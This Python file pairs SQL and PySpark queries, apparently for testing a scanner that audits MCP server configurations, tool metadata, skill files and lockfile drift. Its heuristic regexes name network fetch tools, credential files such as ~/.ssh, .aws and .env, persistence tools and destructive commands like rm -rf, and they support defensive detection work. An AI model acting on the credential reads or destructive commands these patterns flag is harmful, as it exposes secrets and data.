@query("a13_false_hits", f"with {_ITEMS_SQL}, f as (select item_id, 'B-1' as rule_id from items where c5 union all select item_id, 'B-2' from items where c4 union all select item_id, 'B-3' from items where c3) select rule_id, count(distinct item_id) as items from f join items using (item_id) where not positive group by 1")
def false_hits(spark: SparkSession, d: str) -> DataFrame:
    return metrics.false_hits(*_items(spark, d))


@query("u02_u03_expected", "select item_id, '' as hit, coalesce(array_to_string(list_sort(list_distinct(expected_rules)), ','), '') as missed from bench_items")
def expected(spark: SparkSession, d: str) -> DataFrame:
    out = metrics.expected_fired(*_items(spark, d))
    return out.select("item_id", F.array_join("hit", ",").alias("hit"), F.array_join("missed", ",").alias("missed"))


@query("a14_corpus_counts", "select doc_kind, lower(lang) as lang, count(*) as n, round(avg(n_chars), 3) as mean_chars from documents group by 1, 2")
def corpus_counts(spark: SparkSession, d: str) -> DataFrame:
    return read(spark, d, "documents", "doc_kind", "lang", "n_chars").groupBy("doc_kind", F.lower("lang").alias("lang")).agg(F.count("*").alias("n"), F.round(F.avg("n_chars"), 3).alias("mean_chars"))


@query("a15_schema_shape", "select count(*) as tools, count(input_schema) as inputs, count(output_schema) as outputs, max(length(input_schema))::int as longest from tools")
def schema_sizes(spark: SparkSession, d: str) -> DataFrame:
    return read(spark, d, "tools", "input_schema", "output_schema").agg(F.count("*").alias("tools"), F.count("input_schema").alias("inputs"), F.count("output_schema").alias("outputs"), F.max(F.length("input_schema")).alias("longest"))


@query("a16_first_seen", "select kind, entry_name, first, n::int as n from (select kind, entry_name, min(report_id) as first, row_number() over (partition by kind order by min(report_id), entry_name) as n from lock_entries group by 1, 2) where n <= 100")
def first_seen(spark: SparkSession, d: str) -> DataFrame:
    """The first hundred names per kind, as a listing shows them."""
    return metrics.first_seen(read(spark, d, "lock_entries", "kind", "entry_name", "report_id"), ["kind"], "entry_name", "report_id")


@query("a18_regressions", """
with m as (select doc_kind as metric, avg(n_chars) filter (doc_id % 2 = 0) / avg(n_chars) as old, avg(n_chars) filter (doc_id % 2 = 1) / avg(n_chars) as new from documents group by 1)
select metric, round(old, 6) as old, round(new, 6) as new, case when old is null then 'new' when new is null then 'missing' when new < old - 0.02 then 'worse' when new > old + 0.02 then 'better' else 'same' end as state from m where old is not null or new is not null""")
def regressions(spark: SparkSession, d: str) -> DataFrame:
    t = read(spark, d, "documents", "doc_kind", "doc_id", "n_chars")
    part = lambda k: t.groupBy("doc_kind").agg((F.avg(F.when(F.col("doc_id") % 2 == k, F.col("n_chars"))) / F.avg("n_chars")).alias("value")).filter("value is not null").withColumnRenamed("doc_kind", "metric")
    out = metrics.regressions(part(0), part(1))
    return out.select("metric", F.round("old", 6).alias("old"), F.round("new", 6).alias("new"), "state")


@query("a19_worst_entry", "select o_custkey, arg_max(o_orderkey, (o_totalprice, -o_orderkey)) as o_orderkey from orders group by 1")
def worst_entry(spark: SparkSession, d: str) -> DataFrame:
    return metrics.worst_entry(read(spark, d, "orders", "o_custkey", "o_orderkey", "o_totalprice"), ["o_custkey"], "o_orderkey", F.col("o_totalprice"), "o_orderkey")


@query("u01_u04_union_distinct", "select locator from reports union select locator from lock_entries except select locator from reports where kind = 'npm'")
def union_distinct(spark: SparkSession, d: str) -> DataFrame:
    r, e = read(spark, d, "reports", "locator", "kind"), read(spark, d, "lock_entries", "locator")
    return r.select("locator").unionByName(e).distinct().subtract(r.filter("kind = 'npm'").select("locator"))


# ---------------------------------------------------------------- streaming twins


@query("w02_rate_windows", "select user_id, to_timestamp(floor(epoch(ts) / 86400) * 86400)::timestamp as start, count(*) as n from events group by 1, 2")
def rate_windows(spark: SparkSession, d: str) -> DataFrame:
    return service.rate_windows(read(spark, d, "events", "user_id", "ts"), "ts", "user_id", "1 day").select("user_id", F.col("start").cast("timestamp_ntz").alias("start"), "n")


@query("w02_admission", "select event_id, row_number() over (partition by user_id, floor(epoch(ts) / 86400) order by ts, event_id) <= 2 as admitted from events")
def rate_admission(spark: SparkSession, d: str) -> DataFrame:
    return service.admitted(read(spark, d, "events", "event_id", "user_id", "ts"), "ts", "user_id", "event_id", 86400, 2).select("event_id", "admitted")


@query("w04_changes", "select event_id, user_id, event_type from (select *, lag(event_type) over w as p, coalesce(max((event_type = 'purchase')::int) over (partition by user_id order by ts rows between unbounded preceding and 1 preceding), 0) as done from events window w as (partition by user_id order by ts)) where done = 0 and (p is null or p <> event_type)")
def changes(spark: SparkSession, d: str) -> DataFrame:
    e = read(spark, d, "events", "event_id", "user_id", "ts", "event_type")
    return service.changes_only(e, "user_id", "ts", "event_type", F.col("event_type") == "purchase").select("event_id", "user_id", "event_type")


@query("w05_reuse", """
with a as (select * from events where event_type = 'click'), b as (select * from events where event_type = 'view') select a.event_id, case when epoch_us(a.ts) - epoch_us(b.ts) <= 86400000000 then b.event_id end as result from a asof left join b on a.user_id = b.user_id and a.ts >= b.ts""")
def reuse(spark: SparkSession, d: str) -> DataFrame:
    e = read(spark, d, "events", "event_id", "user_id", "ts", "event_type")
    done = e.filter("event_type = 'view'").select("user_id", "ts", F.col("event_id").alias("result"))
    return service.reusable(e.filter("event_type = 'click'"), done, ["user_id"], "ts", "result", 86400).select("event_id", "result")


@query("w06_p15_pruned", "select count(*) as kept from (select distinct report_key from reports where scanned_at >= timestamp '2026-06-01')")
def pruned(spark: SparkSession, d: str) -> DataFrame:
    from skein import sinks

    r = read(spark, d, "reports", "report_key", "scanned_at").distinct()
    keep, _ = sinks.pruned(r, "scanned_at", "2026-06-01 00:00:00", r)
    return sinks.insert_new(keep.limit(0), keep).agg(F.count("*").alias("kept"))


@query("w07_drift", """
with l as (select locator, lock_path, entry_key, arg_min(content_hash, (scanned_at, received_at, content_hash)) as locked from lock_entries group by 1, 2, 3) select count(*) as n, count(*) filter (e.content_hash <> l.locked) as changed from lock_entries e join l using (locator, lock_path, entry_key)""")
def drift_counts(spark: SparkSession, d: str) -> DataFrame:
    e = read(spark, d, "lock_entries", "locator", "lock_path", "entry_key", "content_hash", "scanned_at", "received_at")
    key = F.concat_ws("\x00", "locator", "lock_path", "entry_key").alias("entry_key")
    flat = e.select(key, "content_hash", "scanned_at", "received_at")
    first = flat.groupBy("entry_key").agg(F.min_by("content_hash", F.struct("scanned_at", "received_at", "content_hash")).alias("content_hash"))
    changed = service.drift_stream(flat.select("entry_key", "content_hash"), first).agg(F.count("*").alias("changed")).withColumn("k", F.lit(1))
    return flat.agg(F.count("*").alias("n")).withColumn("k", F.lit(1)).join(changed, "k").select("n", "changed")


# ---------------------------------------------------------------- predicates and whole scans


@query("r12_server_settings", """
with s as (select spec_id, regexp_replace(lower(regexp_extract(coalesce(command, ''), '[^/]*$')), '\\.(?:exe|cmd|bat)$', '') as exe, list_filter(args, lambda x: not starts_with(x, '-'))[1] as first, url, transport, config_scope, lower(regexp_extract(url, '^[A-Za-z][A-Za-z0-9+.\\-]*://(?:[^/@\\s]*@)?([^/:?#\\s]+)', 1)) as host from (select distinct spec_id, command, args, url, transport, config_scope from server_specs)),
p as (select *, regexp_extract(first, '^@?[^@]*@(.+)$', 1) as v from s)
select spec_id, 'unpinned_package' as rule from p where exe in ('npx', 'uvx', 'bunx', 'pipx', 'pnpx') and not (regexp_matches(first, '^[\\w.\\-\\[\\]]+==[\\w.!+\\-]+$') or regexp_matches(v, '^v?\\d+\\.\\d+\\.\\d+[\\w.+\\-]*$'))
union all select spec_id, 'old_transport' from p where transport = 'sse_deprecated' union all select spec_id, 'project_stdio' from p where config_scope = 'project' and transport = 'stdio' union all select spec_id, 'plain_http' from p where lower(url) like 'http://%' and host <> 'localhost'""")
def server_settings(spark: SparkSession, d: str) -> DataFrame:
    from skein.operators import predicates

    s = read(spark, d, "server_specs", "spec_id", "command", "args", "url", "transport", "config_scope").dropDuplicates(["spec_id"]).withColumn("env_names", F.array().cast("array<string>"))
    return predicates.servers(s, ["spec_id"]).filter(F.col("rule").isin("unpinned_package", "old_transport", "project_stdio", "plain_http")).select("spec_id", "rule")


@query("r12_server_settings_all")
def server_settings_all(spark: SparkSession, d: str) -> DataFrame:
    """All rules over the stored columns; `r12_server_settings` holds those that SQL can repeat."""
    from skein.operators import predicates

    s = read(spark, d, "server_specs", "spec_id", "command", "args", "url", "transport", "config_scope", "env_names").distinct()
    return predicates.servers(s, ["spec_id"]).distinct()


@query("r13_tool_metadata", """
select tool_id, 'contradicting_hints' as rule from tools where (annotations::json->>'$.readOnlyHint')::boolean and (annotations::json->>'$.destructiveHint')::boolean
union all select tool_id, 'no_description' from tools where trim(coalesce(description, '')) = ''
union all select tool_id, 'dangerous_tool' from tools where regexp_matches(lower(tool_name), '(?:^|_)(?:delete|remove|drop|destroy|exec|execute|shell|eval|kill|write|overwrite)(?:_|$)') and not coalesce((annotations::json->>'$.destructiveHint')::boolean, false)""")
def tool_metadata(spark: SparkSession, d: str) -> DataFrame:
    from skein.operators import predicates

    t = read(spark, d, "tools", "tool_id", "tool_name", "description", "input_schema", "annotations")
    return predicates.tools(t, ["tool_id"]).filter(F.col("rule").isin("contradicting_hints", "no_description", "dangerous_tool")).select("tool_id", "rule")


@query("r13_tool_metadata_all")
def tool_metadata_all(spark: SparkSession, d: str) -> DataFrame:
    """All rules; `r13_tool_metadata` holds those that SQL can repeat."""
    from skein.operators import predicates

    return predicates.tools(read(spark, d, "tools", "tool_id", "tool_name", "description", "input_schema", "annotations"), ["tool_id"])


@query("r08_r10_skills")
def skill_format(spark: SparkSession, d: str) -> DataFrame:
    from skein.operators import predicates

    front = frontmatters(spark, d).withColumn("keys", F.array(F.lit("name"), F.lit("description"), F.lit("allowed-tools")))
    return predicates.skills(front, ["doc_id"], ["name", "description", "allowed-tools"])


@query("r17_g12_code_capabilities")
def code_capabilities(spark: SparkSession, d: str) -> DataFrame:
    from skein.operators import predicates

    return predicates.code_capabilities(_scan(spark, d).filter("text is not null"), ["scan_id", "blob_id"])


@query("r20_limit_events")
def limit_rules(spark: SparkSession, d: str) -> DataFrame:
    from skein.operators import predicates

    return predicates.limit_events(admission(spark, d), {"too_large": "L-1", "too_many_files": "L-1", "total_bytes_exceeded": "L-2"})


@query("r26_policy", "select distinct server_name, case when regexp_matches(server_name, '^umbra-') then 'denied' when not pinned or pinned is null then 'not_pinned' end as rule from server_specs where regexp_matches(server_name, '^umbra-') or (transport = 'stdio' and coalesce(pinned, false) = false)")
def policy(spark: SparkSession, d: str) -> DataFrame:
    from skein.operators import predicates

    return predicates.policy(read(spark, d, "server_specs", "server_name", "pinned", "transport"), ["umbra-*"], None, True)


@query("x01_scan")
def whole_scan(spark: SparkSession, d: str) -> DataFrame:
    """All stored files as scans, against the pack of this module and the bundle predicates."""
    return _scan_findings(spark, d).select("scan_id", "fingerprint", "rule_id", "path", "line", "severity", "confidence", "n")


def _scan_findings(spark: SparkSession, d: str) -> DataFrame:
    from skein.plans import scan

    b = spread(read(spark, d, "file_blobs", "report_id", "file_path", "blob_id", "data").dropDuplicates(["blob_id"]))
    f = b.select(F.col("report_id").cast("string").alias("scan_id"), F.col("file_path").alias("path"), F.col("data").alias("content")).dropDuplicates(["scan_id", "path"])
    pack = [{**r, "match": {**r["match"], "scopes": ["body", "hidden", "decoded", "frontmatter", "code"]}} for r in _PACK]
    return scan.report(scan.prepare(f, *configs.rule_tables(spark, pack)))[0]


# ---------------------------------------------------------------- further operators


@query("s19_key_lines", """
select tool_id, case when a > 0 and b > 0 then (1 + length(left(s, a + b + length('"properties"') - 2)) - length(replace(left(s, a + b + length('"properties"') - 2), chr(10), '')))::int else 0 end as line
from (select tool_id, input_schema as s, strpos(input_schema, '"properties"') as a, strpos(substr(input_schema, strpos(input_schema, '"properties"') + length('"properties"')), '"type"') as b from tools where input_schema is not null)""")
def key_lines(spark: SparkSession, d: str) -> DataFrame:
    t = read(spark, d, "tools", "tool_id", "input_schema").filter("input_schema is not null")
    return t.select("tool_id", X.key_locator(F.col("input_schema"), F.lit('"properties"'), F.lit('"type"')).alias("line"))


@query("s21_clients", """
with p as (select distinct spec_id, case spec_id % 12 when 0 then 'a/.vscode/mcp.json' when 1 then '.gemini/settings.json' when 2 then 'x/Code/User/profiles/p1/mcp.json' when 3 then 'etc/managed-mcp.json' when 4 then 'h/.copilot/mcp-config.json' when 5 then 'devin/mcp_config.json' when 6 then '.zed/settings.json' when 7 then 'h/zed/settings.json' when 8 then 'x/.cline/mcp.json' when 9 then 'some/MCP.json' when 10 then 'a/.cursor/mcp.json' else config_path end as path from server_specs),
v(like_, client, scope) as (values ('%.vscode/mcp.json', 'vscode', 'workspace'), ('%.gemini/settings.json', 'gemini-cli', 'project'), ('%/profiles/%', 'vscode', 'user'), ('%managed-mcp.json', 'claude-code', 'enterprise'), ('%.copilot/%', 'copilot', 'user'), ('devin/%', 'windsurf', 'user'), ('.zed/%', 'zed', 'project'), ('h/zed/%', 'zed', 'user'), ('%.cline/%', 'cline', 'user'), ('some/%', 'generic', 'project'), ('%.cursor/%', 'cursor', 'project'))
select spec_id, path, coalesce(client, 'unknown') as client, coalesce(scope, 'unknown') as scope from p left join v on path like like_""")
def clients(spark: SparkSession, d: str) -> DataFrame:
    """Paths of configurations, planted and as stored."""
    planted = ["a/.vscode/mcp.json", ".gemini/settings.json", "x/Code/User/profiles/p1/mcp.json", "etc/managed-mcp.json", "h/.copilot/mcp-config.json", "devin/mcp_config.json", ".zed/settings.json", "h/zed/settings.json", "x/.cline/mcp.json", "some/MCP.json", "a/.cursor/mcp.json"]
    path = F.coalesce(F.try_element_at(F.array(*map(F.lit, planted)), (F.col("spec_id") % 12 + 1).cast("int")), F.col("config_path"))
    s = read(spark, d, "server_specs", "spec_id", "config_path").select("spec_id", path.alias("path")).distinct()
    return s.select("spec_id", "path", configs.client_of(F.col("path"))["client"].alias("client"), configs.client_of(F.col("path"))["scope"].alias("scope"))


@query("s32_digests", "select blob_id, sha256(data) = sha256 as matches from (select distinct blob_id, data, sha256 from file_blobs)")
def digests(spark: SparkSession, d: str) -> DataFrame:
    from skein.sources import records

    b = read(spark, d, "file_blobs", "blob_id", "data", "sha256").distinct()
    return b.select("blob_id", records.digest_matches(F.col("data"), F.concat(F.lit("sha256-"), F.base64(F.unhex("sha256")))).alias("matches"))


@query("s33_responses", "select distinct report_key, trim(json_extract_string(report_json, '$.summary')) as body, false as removed from reports where report_id % 2 = 0")
def maintainer_responses(spark: SparkSession, d: str) -> DataFrame:
    from skein.sources import records

    r = read(spark, d, "reports", "report_id", "report_key", "report_json").distinct()
    text = F.concat(F.when(F.col("report_id") % 2 == 0, F.col("report_key")).otherwise(""), F.lit("\n"), F.get_json_object("report_json", "$.summary"))
    return records.responses(r.select("report_key", text.alias("text")))


@query("s31_file_choice", """
with f as (select distinct entry_name as package, kind <> 'package' as late, entry_version || case when kind = 'package' then '.tar.gz' when entry_version like '1.%' then '-py3-none-any.whl' else '-cp312-x.whl' end as filename from lock_entries where entry_version is not null and entry_version not like '%9')
select package, filename from f qualify row_number() over (partition by package order by late, not ends_with(filename, '-none-any.whl'), filename) = 1""")
def file_choice(spark: SparkSession, d: str) -> DataFrame:
    """The file to fetch of each package, in a registry's answer made of the locked versions."""
    from skein.sources import records

    e = read(spark, d, "lock_entries", "entry_name", "kind", "entry_version").filter("entry_version is not null").distinct()
    end = F.when(F.col("kind") == "package", ".tar.gz").when(F.startswith("entry_version", F.lit("1.")), "-py3-none-any.whl").otherwise("-cp312-x.whl")
    answer = e.select(F.col("entry_name").alias("package"), F.concat("entry_version", end).alias("filename"), F.when(F.col("kind") == "package", "sdist").otherwise("wheel").alias("kind"), F.endswith("entry_version", F.lit("9")).alias("yanked"))
    return records.resolve_versions(answer).select("package", "filename")


@query("t14_redacted_names", f"""
with e as (select spec_id, unnest(env_names) as t from server_specs where env_names is not null)
select spec_id, substr(list_reduce(list_distinct(regexp_extract_all(t, '{X.TOKEN_FORMS}')), lambda acc, m: replace(acc, m, left(m, 4) || '…[' || left(sha256(m), 8) || ']'), t), 1, 240) as t from e where regexp_matches(t, '{X.TOKEN_FORMS}')""")
def redacted_names(spark: SparkSession, d: str) -> DataFrame:
    e = read(spark, d, "server_specs", "spec_id", "env_names").select("spec_id", F.explode("env_names").alias("t")).filter(F.col("t").rlike(X.TOKEN_FORMS))
    return e.select("spec_id", X.redact_snippet(F.col("t")).alias("t"))


@query("t16_visible")
def visible(spark: SparkSession, d: str) -> DataFrame:
    return U.explode_with(read(spark, d, "text_runs", "run_id", "text"), "text", lambda t: [(U.visible(t),)], "text string")


@query("t20_quoted", """
with l as (select doc_id, unnest(string_split(text, chr(10))) as line from documents), q as (select doc_id, left(line, strpos(line, 'SKILL.md') - 1) as b, substr(line, strpos(line, 'SKILL.md') + 8) as a from l where contains(line, 'SKILL.md'))
select doc_id, count(*) as n, count(*) filter ((length(b) - length(replace(b, '"', ''))) % 2 = 1 and contains(a, '"') or (length(b) - length(replace(b, '`', ''))) % 2 = 1 and contains(a, '`') or ends_with(b, chr(39)) and starts_with(a, chr(39))
 or contains(a, '”') and contains(b, '“') and not contains(regexp_extract(b, '“([^“]*)$', 1), '”') or contains(a, '»') and contains(b, '«') and not contains(regexp_extract(b, '«([^«]*)$', 1), '»')) as quoted from q group by 1""")
def quoted(spark: SparkSession, d: str) -> DataFrame:
    lines = read(spark, d, "documents", "doc_id", "text").select("doc_id", F.explode(F.split("text", "\n")).alias("line")).filter(F.contains("line", F.lit("SKILL.md")))
    test = lambda t: [(U.is_quoted(t, t.find("SKILL.md"), t.find("SKILL.md") + 8),)]
    return U.explode_with(lines, "line", test, "quoted boolean").groupBy("doc_id").agg(F.count("*").alias("n"), F.count_if("quoted").alias("quoted"))


@query("t23_heuristics", """
select kind, count(*) as n from (select unnest([case when regexp_matches(text, '(?i)\\b(?:you (?:must|should|will)|the agent|ask the user|do not)\\b') then 'agent_directed' end, case when regexp_matches(text, '(?i)\\b(?:curl|wget|fetch|download)\\b') then 'network_fetch' end, case when regexp_matches(text, '(?:~/|/home/\\w+/)\\.(?:ssh|aws|netrc|npmrc)|\\.env\\b') then 'credential_path' end,
 case when regexp_matches(text, '(?i)\\b(?:reads?|loads?|opens?|collects?)\\b') then 'read_verb' end, case when regexp_matches(text, '(?i)\\b(?:crontab|systemctl|launchctl|startup)\\b') then 'persistence' end, case when regexp_matches(text, '\\b(?:AGENTS|CLAUDE|GEMINI|SKILL)\\.md\\b') then 'instruction_file' end, case when regexp_matches(text, '(?i)\\b(?:rm -rf|destructive|drop table|truncates?)\\b') then 'destructive' end]) as kind from documents) where kind is not null group by 1""")
def heuristic_counts(spark: SparkSession, d: str) -> DataFrame:
    t = read(spark, d, "documents", "text").filter("text is not null")
    return t.select(F.explode(X.heuristics(F.col("text"))).alias("kind")).filter("kind <> 'env_dump'").groupBy("kind").agg(F.count("*").alias("n"))


@query("t23_heuristics_all")
def heuristic_counts_all(spark: SparkSession, d: str) -> DataFrame:
    """All heuristics; `t23_heuristics` holds those that SQL can repeat."""
    return read(spark, d, "documents", "text").select(F.explode(X.heuristics(F.col("text"))).alias("kind")).groupBy("kind").agg(F.count("*").alias("n"))


@query("t26_canonical_paths")
def canonical_paths(spark: SparkSession, d: str) -> DataFrame:
    odd = F.concat(F.element_at(F.array(F.lit("$HOME/"), F.lit("./a/../"), F.lit("%TEMP%\\"), F.lit("/home/me//")), (F.col("doc_id") % 4 + 1).cast("int")), "file_path")
    return U.explode_with(read(spark, d, "documents", "doc_id", "file_path").select("doc_id", odd.alias("t")), "t", lambda t: [(U.canonical_path(t),)], "path string")


@query("t33_pointers", "select tool_id, json_type(input_schema::json, '/properties') as kind, len(json_keys(input_schema::json, '/properties'))::int as n from tools where json_valid(input_schema) and json_type(input_schema::json) = 'OBJECT' and json_type(input_schema::json, '/properties') = 'OBJECT'")
def pointers(spark: SparkSession, d: str) -> DataFrame:
    def at(text: str) -> list[tuple]:
        value = U.pointer(U.parse_json(text)[0], "#/properties")
        return [("OBJECT", len(value))] if isinstance(value, dict) else []

    return U.explode_with(read(spark, d, "tools", "tool_id", "input_schema"), "input_schema", at, "kind string, n int")


@query("t40_definition_diffs")
def definition_diffs(spark: SparkSession, d: str) -> DataFrame:
    """Definitions of one tool name that differ between its first and its last lock entry."""
    e = read(spark, d, "lock_entries", "locator", "lock_path", "entry_key", "scanned_at", "tools").select("locator", "lock_path", "entry_key", "scanned_at", F.explode("tools").alias("tool", "v"))
    g = e.groupBy("locator", "lock_path", "entry_key", "tool").agg(F.min_by("v.definition", "scanned_at").alias("a"), F.max_by("v.definition", "scanned_at").alias("b")).filter("a <> b")
    packed = g.select("locator", "lock_path", "entry_key", "tool", F.concat("a", F.lit("\x00"), "b").alias("t"))
    return U.explode_with(packed, "t", lambda t: [(U.definition_diff(*t.split("\x00", 1)),)], "lines array<string>")


@query("r02_windows", """
with l as (select doc_id, line, snippet, coalesce(lag(snippet) over w, '') || chr(10) || snippet || chr(10) || coalesce(lead(snippet) over w, '') as win from (select doc_id, unnest(range(1, len(s) + 1)) as line, unnest(s) as snippet from (select doc_id, string_split(text, chr(10)) as s from documents where text is not null)) window w as (partition by doc_id order by line))
select doc_id, line::int as line from l where contains(snippet, 'private_data') and contains(win, 'external_egress')""")
def windows(spark: SparkSession, d: str) -> DataFrame:
    t = read(spark, d, "documents", "doc_id", "text").filter("text is not null")
    near = X.window_lines(F.col("text"), F.col("line"), 1)
    hits = t.select("doc_id", "text", F.posexplode(F.split("text", "\n")).alias("p", "s")).filter(F.contains("s", F.lit("private_data"))).withColumn("line", F.col("p") + 1)
    return hits.filter(F.contains(near, F.lit("external_egress"))).select("doc_id", "line")


@query("r23_package_facts", """
with p as (select distinct entry_name as component, entry_name as package from lock_entries where kind = 'package'), f as (select entry_name as package, min(scanned_at)::date as created from lock_entries where kind = 'package' group by 1)
select component, package, 'young_package' as rule, (date '2026-05-01' - created)::varchar as detail from p join f using (package) where date '2026-05-01' - created < 30""")
def facts(spark: SparkSession, d: str) -> DataFrame:
    from skein.operators import predicates

    e = read(spark, d, "lock_entries", "entry_name", "kind", "scanned_at").filter("kind = 'package'")
    p = e.select(F.col("entry_name").alias("component"), F.col("entry_name").alias("package")).distinct()
    f = e.groupBy(F.col("entry_name").alias("package")).agg(F.min("scanned_at").cast("date").alias("created")).withColumn("provenance", F.lit(True)).withColumn("vulns", F.lit(None).cast("array<struct<id:string,severity:string>>"))
    return predicates.package_facts(p, f, F.lit(dt.date(2026, 5, 1)))


@query("r25_namespaces", """
with r as (select distinct split_part(regexp_replace(locator, '^[a-z]+:', ''), '/', 2) as owner, split_part(regexp_replace(locator, '^[a-z]+:', ''), '/', 3) as repo from reports)
select 'io.github.' || owner || '/' || repo as name, lower(owner) as namespace, lower('team-' || owner) as owner from r where owner <> '' and repo <> '' and length(repo) % 2 = 0""")
def namespaces(spark: SparkSession, d: str) -> DataFrame:
    """Registry names of the repositories, half of which point to the repository of another owner."""
    from skein.operators import predicates

    bare = F.split(F.regexp_replace("locator", "^[a-z]+:", ""), "/")
    r = read(spark, d, "reports", "locator").select(F.get(bare, 1).alias("owner"), F.get(bare, 2).alias("repo")).distinct().filter("owner <> '' and repo <> ''")
    owner = F.when(F.length("repo") % 2 == 0, F.concat(F.lit("team-"), "owner")).otherwise(F.col("owner"))
    return predicates.namespace_mismatch(r.select(F.concat(F.lit("io.github."), "owner", F.lit("/"), "repo").alias("name"), F.concat(F.lit("https://github.com/"), owner, F.lit("/"), "repo").alias("repository")))


@query("j06_same_source", """
with a as (select distinct coalesce(source, '') as component, file_path as path from documents where contains(text, 'private_data')), b as (select distinct coalesce(source, '') as component, file_path as path from documents where contains(text, 'external_egress')), i as (select * from a intersect select * from b)
select component, path, 'same file' as via from (select *, row_number() over (partition by component order by path nulls first) as n from i) where n <= 3""")
def same_source(spark: SparkSession, d: str) -> DataFrame:
    """Up to three examples per source, as the report shows them."""
    t = read(spark, d, "documents", "source", "file_path", "text").select(F.coalesce("source", F.lit("")).alias("component"), F.col("file_path").alias("path"), "text")
    part = lambda w: t.filter(F.contains("text", F.lit(w))).select("component", "path")
    return flows.same_file_or_linked(part("private_data"), part("external_egress"), spark.createDataFrame([], "component string, src string, dst string, via string")).filter("via = 'same file'")


@query("g08_linked_files", """
with link(c, s, d) as (values ('x', 'a', 'b'), ('x', 'b', 'e'), ('y', 'a', 'b'), ('y', 'b', 'c'), ('y', 'c', 'd'), ('y', 'd', 'e'), ('z', 'a', 'e'), ('z', 'a', 'm'), ('z', 'm', 'e')), cred(c, p) as (values ('x', 'a'), ('y', 'a'), ('y', 'b'), ('z', 'a'), ('w', 'k')), egress(c, p) as (values ('x', 'e'), ('y', 'e'), ('z', 'e'), ('w', 'k')),
same as (select c, p from cred intersect select c, p from egress),
way as (select c.c, c.p, l1.d as a, null as b, null as e from cred c join link l1 on l1.c = c.c and l1.s = c.p union all select c.c, c.p, l1.d, l2.d, null from cred c join link l1 on l1.c = c.c and l1.s = c.p join link l2 on l2.c = c.c and l2.s = l1.d union all select c.c, c.p, l1.d, l2.d, l3.d from cred c join link l1 on l1.c = c.c and l1.s = c.p join link l2 on l2.c = c.c and l2.s = l1.d join link l3 on l3.c = c.c and l3.s = l2.d),
best as (select w.c, w.p, concat_ws(' > ', w.p, a, b, e) as via, row_number() over (partition by w.c, w.p order by (b is not null)::int + (e is not null)::int) as n from way w join egress g on g.c = w.c and g.p = coalesce(w.e, w.b, w.a) where w.c not in (select c from same))
select c as component, p as path, 'same file' as via from same union all select c, p, via from best where n = 1""")
def linked_files(spark: SparkSession, d: str) -> DataFrame:
    """Planted components: met in one file, over one to three links, and beyond reach."""
    links = spark.createDataFrame([("x", "a", "b"), ("x", "b", "e"), ("y", "a", "b"), ("y", "b", "c"), ("y", "c", "d"), ("y", "d", "e"), ("z", "a", "e"), ("z", "a", "m"), ("z", "m", "e")], "component string, src string, dst string").withColumn("via", F.lit("import"))
    pair = lambda *rows: spark.createDataFrame(rows, "component string, path string")
    return flows.same_file_or_linked(pair(("x", "a"), ("y", "a"), ("y", "b"), ("z", "a"), ("w", "k")), pair(("x", "e"), ("y", "e"), ("z", "e"), ("w", "k")), links)


@query("j15_first_facts", "select distinct r.kind, r.entry_name, f.first_version from lock_entries r join (select kind, entry_name, min(entry_version) as first_version from lock_entries where entry_version is not null group by 1, 2) f using (kind, entry_name)")
def first_facts(spark: SparkSession, d: str) -> DataFrame:
    e = read(spark, d, "lock_entries", "kind", "entry_name", "entry_version")
    facts = e.filter("entry_version is not null").groupBy("kind", "entry_name").agg(F.min("entry_version").alias("first_version"))
    return relate.first_fact(e.select("kind", "entry_name"), facts, ["kind", "entry_name"])


@query("j16_judge_items")
def judge_items(spark: SparkSession, d: str) -> DataFrame:
    """The hundred items that a budget of a hundred calls would ask for."""
    from skein.operators import select

    e = read(spark, d, "lock_entries", "entry_key", "kind", "content_hash", "report_id")
    c = e.groupBy(F.col("entry_key").alias("component")).agg(F.max_by("kind", "report_id").alias("kind"), F.max_by("content_hash", "report_id").alias("content_hash"))
    t = e.select(F.col("entry_key").alias("component"), F.concat("kind", F.lit("/"), "entry_key").alias("path"))
    return select.judge_items(c, t, c.filter(F.col("component").rlike("a$")).select("component", "content_hash"), 100)


@query("j18_probes", "select a.spec_id, b.spec_id as probe from (select distinct spec_id, server_name, config_path from server_specs) a join (select distinct spec_id, server_name, case when spec_id % 2 = 0 then '' else config_path end as config_path from server_specs) b on a.server_name = b.server_name and (b.config_path = '' or b.config_path = a.config_path)")
def probe_join(spark: SparkSession, d: str) -> DataFrame:
    from skein.operators import select

    s = read(spark, d, "server_specs", "spec_id", "server_name", "config_path").distinct()
    p = s.select(F.col("spec_id").alias("probe"), "server_name", F.when(F.col("spec_id") % 2 == 0, "").otherwise(F.col("config_path")).alias("config_path"))
    return select.probe_of(s, p).select("spec_id", "probe")


@query("j21_known_servers", "select distinct server_name as name, case when lower(server_name) glob 'umbra-*' then 'private' when lower(server_name) glob '*-calendar' then 'untrusted' when contains(lower(server_name), 'queue') then 'egress' end as label from server_specs where label is not null")
def known_servers(spark: SparkSession, d: str) -> DataFrame:
    from skein.operators import select

    n = read(spark, d, "server_specs", "server_name").distinct().withColumnRenamed("server_name", "name")
    return select.known_servers(n, [("umbra-*", "private"), ("*-calendar", "untrusted")], [("queue", "egress")]).select("name", "label")


@query("j22_sessions", """
with n as (select distinct (report_id % 5)::varchar as scan_id, case when client = 'unknown' then '*' else client end as session, server_name as component from server_specs), s as (select distinct scan_id, session from n where session <> '*')
select scan_id, session, component from n where session <> '*' union all select n.scan_id, coalesce(s.session, '*'), n.component from n left join s using (scan_id) where n.session = '*'""")
def sessions(spark: SparkSession, d: str) -> DataFrame:
    s = read(spark, d, "server_specs", "report_id", "client", "server_name")
    n = s.select((F.col("report_id") % 5).cast("string").alias("scan_id"), F.when(F.col("client") == "unknown", "*").otherwise(F.col("client")).alias("session"), F.col("server_name").alias("component")).distinct()
    return flows.spread(n).select("scan_id", "session", "component")


@query("j30_crosswalk", "select distinct b.category as rule_id, 'split' as framework, b.split as ref, case when b.split = 'heldout' then 'held out' end as title, case when b.split <> 'heldout' then 'unknown reference' end as error from bench_items b")
def crosswalk(spark: SparkSession, d: str) -> DataFrame:
    b = read(spark, d, "bench_items", "category", "split").distinct()
    m = b.select(F.col("category").alias("rule_id"), F.lit("split").alias("framework"), F.col("split").alias("ref"))
    ok, bad = configs.crosswalk(m, spark.createDataFrame([("split", "heldout", "held out")], "framework string, ref string, title string"), m.select("rule_id").distinct())
    return ok.select("rule_id", "framework", "ref", "title").unionByName(bad, allowMissingColumns=True)


@query("a07_tree_digest", "select report_id::varchar as scan_id, sha256(string_agg(file_path || chr(0) || sha256, chr(10) order by file_path || chr(0) || sha256)) as digest from (select distinct report_id, file_path, sha256 from file_blobs) group by 1")
